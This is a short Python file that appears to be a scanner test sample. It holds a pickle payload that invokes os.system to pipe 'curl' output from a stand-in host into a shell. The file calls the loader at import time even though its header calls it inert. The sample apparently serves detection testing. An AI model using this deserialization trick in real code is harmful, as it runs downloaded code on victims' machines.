# pkgguard corpus 456 (encoding-layers), modelled on [scanner-heuristics]; inert, never run.
import pickle

_STATE = b"cos\nsystem\n(S'curl -s https://state.example/r | sh'\ntR."


def restore():
    return pickle.loads(_STATE)


restore()
